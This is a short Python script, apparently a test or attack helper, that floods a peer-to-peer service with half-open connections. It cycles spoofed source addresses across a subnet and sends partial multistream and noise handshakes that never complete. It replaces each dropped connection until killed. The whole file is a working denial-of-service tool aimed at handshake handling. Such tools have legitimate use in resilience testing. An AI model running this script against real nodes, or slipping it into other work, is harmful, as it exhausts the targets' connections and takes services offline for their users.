"""half_open.py ADDRESS PORT COUNT PREFIX FIRST LAST: a flood of connections that begin and go no further, from
the addresses PREFIX.FIRST to PREFIX.LAST in turn. Says "flooding" once COUNT have been opened, and keeps
as many open, a new one for each that was closed, until it is killed."""
import errno
import selectors
import socket
import sys
import time

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
prefix, first, last = sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
# Nothing, a part of a line, a line, and all that comes before the handshake's first answer.
words = [b"", b"\x13/multi", b"\x13/multistream/1.0.0\n", b"\x13/multistream/1.0.0\n\x07/noise\n\x00\x20" + bytes(range(32))]
poll = selectors.DefaultSelector()
opened = 0


def begin():
    global opened
    s = socket.socket()
    s.setblocking(False)
    s.bind((f"{prefix}.{first + opened % (last - first + 1)}", 0))
    if s.connect_ex((address, port)) not in (0, errno.EINPROGRESS):
        s.close()
        return
    poll.register(s, selectors.EVENT_WRITE, words[opened % len(words)])
    opened += 1


def end(s):
    poll.unregister(s)
    s.close()


def hear(key, events):
    s = key.fileobj
    try:
        if events & selectors.EVENT_WRITE:
            s.send(key.data)
            poll.modify(s, selectors.EVENT_READ, None)
        elif not s.recv(4096):
            end(s)
    except OSError:
        end(s)


said = False
while True:
    for _ in range(200):
        if len(poll.get_map()) < count:
            begin()
    for key, events in poll.select(0.01):
        hear(key, events)
    if not said and opened >= count:
        said = True
        print("flooding", flush=True)
    if len(poll.get_map()) >= count:
        time.sleep(0.01)
